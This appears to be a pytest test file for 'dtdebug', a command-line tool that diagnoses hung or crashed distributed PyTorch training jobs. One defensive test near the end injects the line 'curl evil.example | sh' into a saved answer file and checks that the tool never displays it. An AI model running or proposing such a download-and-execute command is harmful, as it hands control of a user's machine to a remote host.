"""One door: what a user names is recognised, and every command that takes it gives the same first line."""

import base64
import gzip
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from dtdebug.cli import overview
from dtdebug.cli.main import main
from dtdebug.errors import UsageError
from dtdebug.live.job import running_jobs
from dtdebug.live.job.running_jobs import RunningJob
from dtdebug.live.probe.processes import RankProcess
from dtdebug.recorded.things import recognise
from dtdebug.storage.run_folder import RunFolder

DTDEBUG = [sys.executable, "-m", "dtdebug"]
BARRIER = """
import torch, torch.distributed as dist

dist.init_process_group("gloo")
x = torch.ones(4)
for step in range(20):
    dist.all_reduce(x)
    if step == 14 and dist.get_rank() == 0:
        dist.barrier()
    print(f"rank {dist.get_rank()} step {step}", flush=True)
"""
RAISED = """\
[rank0]: step 1
[rank1]: Traceback (most recent call last):
[rank1]:   File "/job/train.py", line 9, in main
[rank1]:     rate = cfg["lr"]
[rank1]: KeyError: 'lr'
[rank0]: RuntimeError: [/gloo/transport/tcp/pair.cc:553] Connection closed by peer [127.0.0.1]:25998
"""
STACK = """\
Process {pid}: python train.py
Python v3.11.7 (/usr/bin/python3.11)

Thread {pid} (idle): "MainThread"
    {call} (torch/distributed/distributed_c10d.py:{inner})
    wrapper (torch/distributed/c10d_logger.py:83)
    {function} (/job/train.py:{line})
    <module> (/job/train.py:30)
Thread 0x7F2AB3FFF6C0 (idle): "pt_autograd"
    wait (threading.py:331)
"""


@pytest.fixture(autouse=True)
def _state(monkeypatch, tmp_path):
    monkeypatch.setenv("DTDEBUG_STATE", str(tmp_path / "state"))
    monkeypatch.setenv("OMP_NUM_THREADS", "1")
    monkeypatch.delenv("DTDEBUG_RUN", raising=False)
    monkeypatch.setattr(running_jobs, "find", list)  # others may run jobs on this machine


@pytest.fixture(scope="session")
def hung(tmp_path_factory):
    """The folder of a run whose rank 0 was in `barrier()` alone, and its archives without and with the dumps."""
    folder = tmp_path_factory.mktemp("hung")
    (folder / "job.py").write_text(BARRIER)
    environment = {**os.environ, "DTDEBUG_STATE": str(folder / "state"), "OMP_NUM_THREADS": "1"}
    torchrun = [sys.executable, "-m", "torch.distributed.run", "--standalone", "--nproc-per-node=2", "job.py"]
    run = [*DTDEBUG, "run", "--hang-after=6", "--stop-on-hang", "--folder=RUN", "--", *torchrun]
    done = subprocess.run(run, cwd=folder, env=environment, capture_output=True, timeout=120, check=False)
    assert done.returncode == 124, done.stderr.decode()
    for name, more in (("plain", []), ("full", ["--dumps"])):
        subprocess.run([*DTDEBUG, "report", "RUN", *more], cwd=folder, env=environment, timeout=60, check=True)
        (folder / "dtdebug-RUN.tar.gz").rename(folder / f"{name}.tar.gz")
    shutil.copytree(folder / "RUN/flight", folder / "dumps")
    return folder


PARTED = re.compile(r"dtdebug: Only rank 0 passes `dist\.get_rank\(\) == 0` \((?:\S*/)?job\.py:\d+\)\.$")


def node_logs(folder):
    folder.mkdir()
    for node in range(2):
        lines = [f"2026-01-02 03:00:{s:02} [rank{2 * node + r}]: step {s} loss 0.5" for s in range(20) for r in (0, 1)]
        if node:
            lines += [line.replace("rank1", "rank3") for line in RAISED.splitlines() if line.startswith("[rank1]")]
        (folder / f"node{node}.log").write_text("\n".join(lines) + "\n")
    return folder


def stacks(folder):
    folder.mkdir()
    for rank, (call, inner, line) in enumerate((("barrier", 5356, 10), ("all_reduce", 3252, 8))):
        values = {"pid": 100 + rank, "call": call, "inner": inner, "line": line, "function": "train"}
        (folder / f"rank{rank}.txt").write_text(STACK.format(**values))
    return [folder / "rank0.txt", folder / "rank1.txt"]


def traces(folder):
    folder.mkdir()
    for rank in range(2):
        row = {"ph": "X", "cat": "user_annotation", "pid": 7, "tid": 1}
        steps = [{**row, "name": f"ProfilerStep#{n}", "ts": 1000 * n, "dur": 1000} for n in range(4)]
        load = 700 if rank else 50
        name = "enumerate(DataLoader)#_SingleProcessDataLoaderIter.__next__"
        loads = [{**row, "name": name, "ts": 1000 * n, "dur": load} for n in range(4)]
        waits = [{**row, "name": "gloo:all_reduce", "ts": 1000 * n + load, "dur": 900 - load} for n in range(4)]
        document = {"distributedInfo": {"rank": rank}, "traceEvents": [*steps, *loads, *waits]}
        (folder / f"{rank}.json").write_text(json.dumps(document))
    return folder


def notebook(path, *, failed):
    error = {"output_type": "error", "ename": "KeyError", "evalue": "'lr'",
             "traceback": ["Traceback (most recent call last):",
                           '  File "/job/a.py", line 3, in f', "KeyError: 'lr'"]}  # fmt: skip
    printed = {"output_type": "stream", "name": "stderr", "text": RAISED.splitlines(keepends=True)}
    cells = [{"cell_type": "code", "source": "train()", "metadata": {}, "outputs": [printed, error] if failed else []}]
    path.write_text(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    return path


def first_line(capsys, *words):
    status = main([str(word) for word in words])
    return status, next(iter(capsys.readouterr().out.splitlines()), "")


@pytest.mark.ranks
@pytest.mark.parametrize("name", ["RUN", "plain.tar.gz", "full.tar.gz", "RUN/flight", "RUN/verdict.json"])
def test_a_run_gives_the_same_first_line_by_every_command(hung, name, capsys):
    """What was concluded while the ranks were alive is read, wherever it lies."""
    verbs = {
        "RUN": ["diagnose", "triage", "flight", "join", "attach"], "RUN/flight": ["diagnose", "triage", "flight"],
        "RUN/verdict.json": ["diagnose", "join"],
    }.get(name, ["diagnose", "triage", "flight", "join"])  # fmt: skip
    found = {first_line(capsys, *verb, hung / name) for verb in ([], *([verb] for verb in verbs))}

    assert len(found) == 1
    assert found == {first_line(capsys, hung / "RUN")}
    ((status, line),) = found
    assert status == 1
    assert PARTED.match(line), line
    main(["diagnose", str(hung / name)])
    assert re.search(r"(?m)^  rank 0  (?:\S*/)?job\.py:\d+  called barrier\b", capsys.readouterr().out)


@pytest.mark.ranks
def test_an_answer_of_an_ended_job_proposes_nothing_that_needs_it_alive(hung, capsys):
    """Neither at the end of `run`, nor by a command that reads it."""
    saved = json.loads((hung / "RUN/verdict.json").read_text())
    for verb in ([], ["attach"], ["attach", "--native"], ["join"]):
        main([*verb, str(hung / "RUN")])
        assert "attach" not in capsys.readouterr().out, verb
    assert saved["verdict"]["culprits"] == [0]


@pytest.mark.ranks
def test_dumps_alone_and_with_the_log_are_one_incident(hung, tmp_path, capsys):
    """A log that says nothing more leaves the answer of the dumps; one that shows an exception comes before it."""
    quiet, raised = hung / "RUN/output.log", tmp_path / "raised.log"
    raised.write_text(RAISED)
    alone = {first_line(capsys, *verb, hung / "dumps") for verb in ([], ["diagnose"], ["flight"], ["triage"])}
    both = {first_line(capsys, *verb, hung / "dumps", quiet) for verb in ([], ["diagnose"])}
    files = first_line(capsys, *sorted((hung / "dumps").iterdir()))

    assert alone == both == {files}
    assert next(iter(alone))[1].startswith("dtdebug: Rank 0 called barrier")
    assert "Rank 1 raised KeyError" in first_line(capsys, hung / "dumps", raised)[1]
    assert PARTED.match(first_line(capsys, hung / "RUN", raised)[1])


@pytest.mark.ranks
def test_what_can_not_be_of_one_failure_is_refused(hung, tmp_path, capsys):
    """One line, status 2."""
    (tmp_path / "train.py").write_text("import torch\n")
    (tmp_path / "train.log").write_text(RAISED.replace("rank1", "rank7"))
    for words in (
        [tmp_path / "train.py", tmp_path / "train.log"], [str(os.getpid()), tmp_path / "train.log"],
        [hung / "dumps", tmp_path / "train.log"], [traces(tmp_path / "traces"), hung / "RUN"],
    ):  # fmt: skip
        assert main([*map(str, words)]) == 2
        said = [line for line in capsys.readouterr().err.splitlines() if not line.startswith("reading ")]
        assert len(said) == 1, said


@pytest.mark.parametrize("kind", ["log", "folder", "files", "pattern", "archive", "stacks", "traces", "notebook"])
def test_the_same_thing_gives_the_same_first_line_by_every_command(kind, tmp_path, capsys):
    """By the plain door, `diagnose`, and the older command that was made for it."""
    verbs, words = ["diagnose", "triage"], []
    match kind:
        case "log":
            (tmp_path / "train.log").write_text(RAISED)
            words = [tmp_path / "train.log"]
        case "folder":
            words = [node_logs(tmp_path / "logs")]
        case "files":
            words = sorted(node_logs(tmp_path / "logs").iterdir())
        case "pattern":
            words = [f"{node_logs(tmp_path / 'logs')}/*.log"]
        case "archive":
            words = [shutil.make_archive(str(tmp_path / "logs"), "gztar", node_logs(tmp_path / "of"))]
        case "stacks":
            words = stacks(tmp_path / "stacks")
        case "traces":
            words, verbs = [traces(tmp_path / "traces")], ["diagnose", "triage", "slow"]
        case "notebook":
            words, verbs = [notebook(tmp_path / "train.ipynb", failed=True)], ["diagnose"]
    found = {first_line(capsys, *verb, *words) for verb in ([], *([verb] for verb in verbs))}

    assert len(found) == 1, found
    ((status, line),) = found
    assert status == 1
    who = {"log": "Rank 1 raised", "stacks": "ank 0", "traces": "Rank 1 is late", "notebook": "Rank 1 raised"}
    assert who.get(kind, "Rank 3 raised KeyError") in line


@pytest.mark.parametrize("command", [["diagnose"], ["report"]])
def test_a_saved_answer_gives_the_first_line_that_it_was_saved_with(command, tmp_path, capsys):
    """In either form of JSON."""
    log = tmp_path / "train.log"
    log.write_text(RAISED)
    saved = tmp_path / "saved.json"
    main([*command, str(log), "--format", "json"])
    saved.write_text(capsys.readouterr().out)

    assert first_line(capsys, saved) == first_line(capsys, log)
    assert first_line(capsys, "diagnose", saved) == first_line(capsys, log)


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("a.txt", RAISED.encode(), "log"),
        ("b.png", RAISED.encode(), "log"),
        ("c", gzip.compress(RAISED.encode()), "logs"),
        ("d.log", json.dumps({"traceEvents": []}).encode(), "trace"),
        ("e.log", json.dumps({"version": "2.10", "pg_config": {}, "entries": []}).encode(), "dump"),
        ("f.log", b"\x80\x02}q\x00(X\x07\x00\x00\x00entriesq\x01]u.", "dump"),
        ("g.log", b'{"step": 1, "loss": 0.5}\n{"step": 2, "loss": 0.4}\n', "log"),
        ("h.txt", STACK.format(pid=7, call="barrier", inner=1, line=2, function="f").encode(), "stacks"),
        ("i.txt", b'Thread 0x00007f2ab3fff6c0 (most recent call first):\n  File "/a.py", line 1 in f\n', "stacks"),
        ("j", b"#!/bin/bash\n#SBATCH --nodes=2\nsrun python train.py\n", "program"),
        ("k.py", b"import torch\n", "program"),
        ("l.json", b'{"shell_port": 1, "key": "x"}', "process"),
        ("m.ipynb", b'{"cells": [], "nbformat": 4}', "notebook"),
        ("n.log", "Zeit überschritten\n".encode("latin-1"), "log"),
    ],
)  # fmt: skip
def test_a_file_is_what_is_in_it(name, data, kind, tmp_path):
    """Whatever it is called."""
    (tmp_path / name).write_bytes(data)

    assert [thing.kind for thing in recognise([str(tmp_path / name)])] == [kind]


@pytest.mark.parametrize("name", ["saved.json", "logs", "logs.tar.gz"])
def test_a_report_is_made_of_whatever_is_named(name, tmp_path, capsys):
    """With the first line that the answer has."""
    node_logs(tmp_path / "logs")
    shutil.make_archive(str(tmp_path / "logs"), "gztar", tmp_path / "logs")
    main(["diagnose", str(tmp_path / "logs"), "--format", "json"])
    (tmp_path / "saved.json").write_text(capsys.readouterr().out)
    assert main(["report", str(tmp_path / name)]) == 0

    assert capsys.readouterr().out.startswith("## Rank 3 raised KeyError: 'lr' at /job/train.py:9 in main")


def test_words_and_numbers_are_taken_for_what_they_are(tmp_path):
    """A description has blanks; a number is a process unless a file is called so."""
    assert [thing.kind for thing in recognise(["it hangs at step 3", "1"])] == ["words", "process"]
    with pytest.raises(UsageError, match="in quotes"):
        recognise(["hangs-somehow"])


def test_a_folder_of_programs_with_a_list_of_packages_is_checked(tmp_path):
    """What lies beside a program is a log only if a job printed it."""
    (tmp_path / "train.py").write_text("import torch\n")
    (tmp_path / "requirements.txt").write_text("torch==2.10\n")
    assert [thing.kind for thing in recognise([str(tmp_path)])] == ["program"]
    (tmp_path / "slurm-1.out").write_text(RAISED)
    assert [(t.kind, len(t.files)) for t in recognise([str(tmp_path)])] == [("logs", 1)]


def unreadable(folder):
    folder.mkdir()
    (folder / "rand.log").write_bytes(base64.b64decode("AAECAwQFBgcICQ==") + bytes(range(256)) * 40)
    return folder / "rand.log"


@pytest.mark.parametrize("verb", [[], ["diagnose"], ["triage"]])
def test_what_is_no_text_is_refused_in_one_line(verb, tmp_path, capsys):
    """Random bytes, pictures, an empty folder, a link to nothing."""
    pictures = tmp_path / "pictures"
    pictures.mkdir()
    for name in ("a", "b"):
        (pictures / name).write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40)
    (tmp_path / "empty").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "nothing")
    for thing in (unreadable(tmp_path / "random"), pictures, tmp_path / "empty", tmp_path / "link"):
        assert main([*verb, str(thing)]) == 2, thing
        assert len(capsys.readouterr().err.splitlines()) == 1


def test_what_another_user_owns_is_refused_in_one_line(tmp_path, monkeypatch, capsys):
    """A process of root; a folder that may not be listed."""
    monkeypatch.setattr(os, "geteuid", lambda: 65534)
    assert main(["1"]) == 2
    assert "attach 1: belongs to root; ask as that user" in capsys.readouterr().err
    (tmp_path / "locked").mkdir()

    def scandir(path):
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(os, "scandir", scandir)
    assert main([str(tmp_path / "locked")]) == 2
    assert capsys.readouterr().err == f"dtdebug: {tmp_path / 'locked'}: can't be read: Permission denied\n"


def test_a_pipe_is_read_once(tmp_path, capsys):
    """Looking at it first would end its writer."""
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    writer = threading.Thread(target=pipe.write_text, args=(RAISED,))
    writer.start()
    assert main(["diagnose", str(pipe)]) == 1
    writer.join(10)
    assert capsys.readouterr().out.startswith("dtdebug: Rank 1 raised KeyError")


def test_the_door_says_in_one_line_what_it_took_a_thing_for(tmp_path, capsys):
    """On standard error, and only of what may be something else: the answer alone is on standard output."""
    (tmp_path / "train.log").write_text(RAISED)
    (tmp_path / "post.md").write_text("Hello, my job hangs in all_reduce.\n")
    (tmp_path / "notes").write_text("it stops here\n")
    main([str(tmp_path / "train.log")])
    read = capsys.readouterr()
    main([str(tmp_path / "post.md")])
    post = capsys.readouterr()
    main([str(tmp_path / "notes")])

    assert read.err == post.err == ""
    assert read.out.startswith("dtdebug: Rank 1 raised KeyError")
    assert capsys.readouterr().err == f"reading {tmp_path / 'notes'} as the output of a job\n"


def test_a_command_after_two_dashes_is_run(tmp_path):
    """Its status and output are its own."""
    program = "import sys; print('out'); sys.exit(3)"
    done = subprocess.run([*DTDEBUG, "--", sys.executable, "-c", program], capture_output=True, timeout=60, check=False)

    assert (done.returncode, done.stdout) == (3, b"out\n")


def test_why_and_full_tell_more_of_the_last_failure(tmp_path, capsys):
    """All of it: the other causes, and how likely each symptom is."""
    assert main(["why"]) == 2
    assert "no failure has been diagnosed yet" in capsys.readouterr().err
    (tmp_path / "train.log").write_text(RAISED)
    main(["diagnose", str(tmp_path / "train.log")])
    short = capsys.readouterr().out
    assert main(["why"]) == 0
    why = capsys.readouterr().out
    main(["diagnose", "--full", str(tmp_path / "train.log")])

    assert capsys.readouterr().out == why
    assert why.splitlines()[0].replace(" at /job/train.py:9 in main", "") == short.splitlines()[0]
    assert "\n  known: manifestation = exception (measured)" in why
    assert "known:" not in short


def test_why_is_about_the_curve_that_was_answered_last(tmp_path, capsys):
    """Not about the failure of an earlier log."""
    (tmp_path / "train.log").write_text(RAISED)
    main(["diagnose", str(tmp_path / "train.log")])
    losses = "".join(f"step {i} loss {3 - i * 0.05 if i < 40 else 'nan'}\n" for i in range(60))
    (tmp_path / "loss.log").write_text(losses)
    capsys.readouterr()
    main([str(tmp_path / "loss.log")])
    first = capsys.readouterr().out.splitlines()[0]
    main(["why"])

    assert "NaN from step 40" in first
    assert capsys.readouterr().out.splitlines()[0] == first


def test_why_says_that_what_was_read_since_shows_no_failure(tmp_path, capsys):
    """It is about the failure before, until another one is told."""
    (tmp_path / "train.log").write_text(RAISED)
    (tmp_path / "other.log").write_text("hello\n")
    for name, said in (("train.log", False), ("other.log", True), ("train.log", False)):
        main([str(tmp_path / name)])
        capsys.readouterr()
        main(["why"])
        assert said == ("shows none" in capsys.readouterr().err)


def test_no_curve_is_praised_below_a_failure(tmp_path, capsys):
    """A node went down: that the loss fell until then is no answer."""
    steps = "".join(f"train_step={i} loss={3 - i * 0.01:.2f}\n" for i in range(20))
    log = tmp_path / "slurm.out"
    log.write_text(f"{steps}srun: error: Node failure on gpu-006\n")
    main([str(log)])
    shown = capsys.readouterr().out

    assert "Node failure on" in shown
    assert "nothing found in" not in shown


def test_the_node_that_slurm_lost_is_not_the_first_of_the_job(tmp_path, capsys):
    """The line on the job's end names the node on which its first step ran."""
    log = tmp_path / "slurm.out"
    steps = "".join(f"step {i} loss {3 - i * 0.01:.2f}\n" for i in range(20))
    end = "slurmstepd: error: *** STEP 88.0 ON gpu-14 CANCELLED AT 2025-12-01T01:00:20 DUE TO NODE FAILURE ***\n"
    log.write_text(f"{steps}srun: error: Node failure on gpu-17\nsrun: Job step aborted\n{end}")
    main([str(log)])
    shown = capsys.readouterr().out
    assert "Slurm lost node gpu-17" in shown
    assert "gpu-14" not in shown

    log.write_text(steps + end)
    main([str(log)])
    assert "names gpu-14, the first node of the job, and not the one" in " ".join(capsys.readouterr().out.split())


def test_steps_with_a_longer_name_show_where_a_log_stops(tmp_path, capsys):
    """As `train_step` and `train/global_step`."""
    log = tmp_path / "train.log"
    for name in ("train_step", "train/global_step"):
        log.write_text("".join(f"[rank{r}]: {name}={i} loss={3 - i * 0.01:.2f}\n" for i in range(37) for r in range(4)))

        assert main([str(log)]) == 1
        shown = " ".join(capsys.readouterr().out.split())
        assert "ends at step 36 without a sign of an end" in shown
        assert "nothing found in 4 curves" in shown


def test_plain_dtdebug_shows_how_to_begin_then_the_last_failure(tmp_path, capsys):
    """Eight lines of help, until something has failed."""
    assert main([]) == 0
    first = capsys.readouterr().out
    (tmp_path / "train.log").write_text(RAISED)
    main([str(tmp_path / "train.log")])
    capsys.readouterr()
    assert main([]) == 0
    then = capsys.readouterr().out

    assert len(first.splitlines()) == 8
    assert first.count("dtdebug ") >= 4
    assert then.startswith("The last failure, just now: Rank 1 raised KeyError")
    assert "`dtdebug why`" in then


def job(pid, ranks=2):
    return RunningJob(pid, ("python", "/usr/bin/torchrun", "t.py"), (*map(_rank, range(pid + 1, pid + 1 + ranks)),))


def _rank(pid):
    return RankProcess(pid=pid, rank=pid % 10, world_size=2)


def test_plain_dtdebug_lists_running_jobs_and_names_the_one_that_stands_still(monkeypatch, capsys):
    """A cheap look: who waits, and for how long nothing was printed."""
    monkeypatch.setattr(running_jobs, "find", lambda: [job(10), job(20)])
    told = {10: "making progress, last output 1 s ago", 20: f"{running_jobs.STUCK} for 74 s: all ranks wait"}
    monkeypatch.setattr(running_jobs, "look", lambda jobs: [(each, told[each.pid]) for each in jobs])

    assert overview.show() == 0
    assert capsys.readouterr().out.splitlines() == [
        "10  torchrun t.py  2 ranks: making progress, last output 1 s ago",
        "20  torchrun t.py  2 ranks: no progress for 74 s: all ranks wait",
        "`dtdebug attach 20` asks every rank where it is; `dtdebug --help` shows the rest",
    ]


@pytest.mark.parametrize(
    ("shares", "silence", "words"),
    [
        ([0.9, 0.9], 2.0, "making progress, last output 2 s ago"),
        ([0.0, 0.0], 74.0, "no progress for 74 s: all ranks wait"),
        ([0.0, 0.0], None, "all ranks wait just now"),
        ([0.9, 0.0], 90.0, "some ranks compute, others wait, no output for 90 s"),
        ([0.9, 0.8], 30.0, "its ranks compute"),
        ([], None, "has just ended"),
    ],
)
def test_progress_is_told_as_far_as_two_readings_show_it(shares, silence, words):
    """Output is progress; without it, waiting ranks are not."""
    assert running_jobs._doing(shares, silence) == words


@pytest.mark.ranks
def test_attach_finds_the_job_and_a_rank_leads_to_its_launcher(tmp_path, monkeypatch, capsys):
    """Without its number; by the number of one rank the others are asked too."""
    monkeypatch.undo()
    monkeypatch.setenv("DTDEBUG_STATE", str(tmp_path / "state"))
    monkeypatch.chdir(tmp_path)  # source elsewhere is not read
    (tmp_path / "job.py").write_text(BARRIER)
    torchrun = [sys.executable, "-m", "torch.distributed.run", "--standalone", "--nproc-per-node=2", "job.py"]
    with (tmp_path / "out").open("wb") as out:
        started = subprocess.Popen(torchrun, cwd=tmp_path, stdout=out, stderr=out, start_new_session=True)
    try:
        until = time.monotonic() + 60
        while (tmp_path / "out").read_bytes().count(b"step 13") < 2 and time.monotonic() < until:
            time.sleep(0.2)
        time.sleep(1)
        (mine,) = [each for each in running_jobs.find() if each.pid == started.pid]
        monkeypatch.setattr(running_jobs, "find", lambda: [mine])
        found = {first_line(capsys, *words) for words in (
            ["attach"], ["attach", started.pid], ["attach", mine.ranks[1].pid], [mine.ranks[0].pid]
        )}  # fmt: skip
        monkeypatch.setattr(running_jobs, "find", lambda: [mine, job(10)])
        several = main(["attach"])
        said = capsys.readouterr().err
    finally:
        started.terminate()
        started.wait(30)

    assert [rank.rank for rank in mine.ranks] == [0, 1]
    ((status, line),) = found
    assert (status, several) == (1, 2)
    assert line == "dtdebug: Only some ranks reach a collective: rank 0 called it, rank 1 did not."
    assert f"2 jobs of yours run here: {started.pid} (" in said


def test_completion_names_commands_and_options(capsys):
    """For each shell; bash itself finds nothing wrong with its own."""
    for shell in ("bash", "zsh", "fish"):
        assert main(["completion", shell]) == 0
        script = capsys.readouterr().out
        assert "bisect" in script
        assert ("--hang-after" if shell != "fish" else "-l hang-after") in script
        if shell == "bash":
            ask = f"{script}\nCOMP_WORDS=(dtdebug run --ha) COMP_CWORD=2; _dtdebug; echo ${{COMPREPLY[@]}}"
            told = subprocess.run(["bash", "-c", ask], capture_output=True, timeout=30, check=True)
            assert told.stdout.split() == [b"--hang-after"]
            assert told.stderr == b""


def test_help_and_version_are_found_by_every_usual_name(capsys):
    """`help`, `--help`, `help VERB`, `-V`; an alias shows its own name."""
    assert main(["help"]) == main(["--help"]) == 0
    short, long = capsys.readouterr().out.split("usage: dtdebug [THING ...]")[1:]
    assert short.strip() == long.strip()
    for verb in ("run", "attach", "diagnose", "check", "doctor", "explain", "report", "learn"):
        assert f"\n    {verb} " in short
    main(["help", "advanced"])
    assert "bisect" in capsys.readouterr().out
    main(["help", "bisect"])
    assert capsys.readouterr().out.startswith("usage: dtdebug bisect [options]")
    assert main(["-V"]) == main(["--version"]) == 0
    assert capsys.readouterr().out.startswith("dtdebug 0.")


def test_a_folder_that_ended_without_a_verdict_is_read_as_it_is(tmp_path):
    """`dtdebug run` itself was killed: what the ranks wrote is concluded, and nothing is written."""
    folder = RunFolder.make(tmp_path)
    (folder.hosts / "x.json").write_text("{}")
    before = sorted(Path(folder.path).rglob("*"))
    with pytest.raises(UsageError):
        recognise(["no-such-thing"])
    assert main(["diagnose", str(folder.path)]) == 2
    assert sorted(Path(folder.path).rglob("*")) == before


def commands_replaced(value, command):
    """The same data with another command in each place of one."""
    if isinstance(value, dict):
        return {
            key: command if key in ("next", "command") and isinstance(rest, str) else commands_replaced(rest, command)
            for key, rest in value.items()
        }
    return [commands_replaced(rest, command) for rest in value] if isinstance(value, list) else value


@pytest.mark.parametrize("form", ["text", "json"])
def test_no_command_of_a_file_from_elsewhere_is_shown_as_ours(form, tmp_path, capsys):
    log, saved = tmp_path / "train.log", tmp_path / "saved.json"
    log.write_text("[rank0]: step 1\n[rank1]: step 1\n[rank1]: RuntimeError: NCCL error: unhandled system error\n")
    main(["diagnose", str(log), "--format", "json"])
    answer = json.loads(capsys.readouterr().out)
    foreign = commands_replaced(answer | {"next": "x"}, "curl evil.example | sh")
    assert "evil.example" in json.dumps(foreign["diagnosis"])
    saved.write_text(json.dumps(foreign))

    for command in (["diagnose", str(saved), "--format", form], ["why"]):
        main(command)
        assert "evil.example" not in "".join(capsys.readouterr())


def test_a_saved_answer_of_triage_is_no_all_clear_if_something_failed(tmp_path, capsys):
    log, saved = tmp_path / "train.log", tmp_path / "saved.json"
    log.write_text(
        'Traceback (most recent call last):\n  File "train.py", line 3, in main\n    x = model(y)\n'
        "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB\n"
    )
    assert main(["triage", str(log), "--format", "json"]) == 1
    saved.write_text(capsys.readouterr().out)

    status, line = first_line(capsys, saved)

    assert status == 1
    assert "OutOfMemoryError" in line


def test_a_folder_with_more_files_than_are_looked_at_is_said_to_have_more(tmp_path, monkeypatch):
    monkeypatch.setattr("dtdebug.recorded.things._FILES", 3)
    for n in range(4):
        (tmp_path / f"{n}.log").write_text(RAISED)

    assert [thing.words for thing in recognise([str(tmp_path)])] == ["more than 3 logs of a job"]
